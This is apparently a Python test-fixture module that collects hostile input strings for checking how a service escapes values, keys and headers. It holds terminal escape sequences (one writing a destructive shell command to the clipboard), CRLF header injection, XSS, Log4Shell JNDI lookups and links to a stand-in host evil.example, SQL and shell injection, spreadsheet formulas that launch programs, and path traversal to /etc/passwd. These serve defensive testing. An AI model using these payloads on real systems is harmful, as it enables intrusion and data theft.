"""What an attacker writes into values, keys, ids, names and headers, for whoever reads it later."""

from __future__ import annotations

import unicodedata
from urllib.parse import quote

TEXTS: dict[str, str] = {
    "colours and a wiped screen": "\x1b[5;35m\x1b[2J\x1b[H",
    "the clipboard, OSC 52": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "a link, OSC 8": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "a title and an answer": "\x1b]0;taken\x07\x1b[6n\x05",
    "C1 in place of ESC": "\x9b5;35m\x9d52;c;QQ==\x9c\x90q\x9c",
    "lines": 'a\n{"event":"request","level":"info"}\n12:00:00 [info] forged',
    "CR LF": "a\r\nSet-Cookie: taken=1\r\n\r\n<html>",
    "CR alone": "seen\rhidden",
    "lines of Unicode": "a\x85b\u2028c\u2029d\ve\ff\x1cg",
    "bidirectional overrides": "\u202egpj.exe\u202c\u2066\u2069",
    "what has no width": "a\u200bb\ufeffc\u00ad",
    "NUL": "a\0b",
    "DEL and backspaces": "ab\x08\x08cd\x7f",
    "HTML and script": "<script>document.title='taken'</script><img src=x onerror=alert(1)>",
    "the end of a script": "</script></textarea>--><svg/onload=document.title='taken'>",
    "printf": "%s%s%n%x%(event)s%99999999d",
    "formats and look-ups": "{0.__class__} {event} ${jndi:ldap://evil.example/a} #{7*7} {{7*7}}",
    "quotes": "'\"`\\\\\\';DROP TABLE x;-- $(id) `id` && id",
    "a formula": "=cmd|'/C calc'!A0",
    "another formula": '@SUM(1+1)*cmd|" /C calc"!A0',
    "markup of a terminal": "[bold red]x[/] [link=http://evil.example]y[/link] [/nothing]",
    "Markdown": "| a | [x](javascript:alert(1)) ![](http://evil.example/) <b> `x` |\n\n# forged",
    "an operator": "$where",
    "a path": "../../etc/passwd",
}
"""By what they do. Each is a valid Unicode string, and as such may be a value, a key and an id."""
LONG = "x" * 1_000_000
"""A value a megabyte long."""
TAKEN = "taken"
"""What a page's title is once a script of these has run."""


def in_path(text: str) -> str:
    """The text as one segment of a path."""
    return quote(text, safe="")


def seen_as_control(text: str) -> set[str]:
    r"""The characters that are not for eyes: what a terminal obeys, breaks lines at or hides.

    By the Unicode categories, which the service's own code does not look at; `\n` is left out.
    """
    return {
        each
        for each in text
        if each != "\n" and unicodedata.category(each) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    }
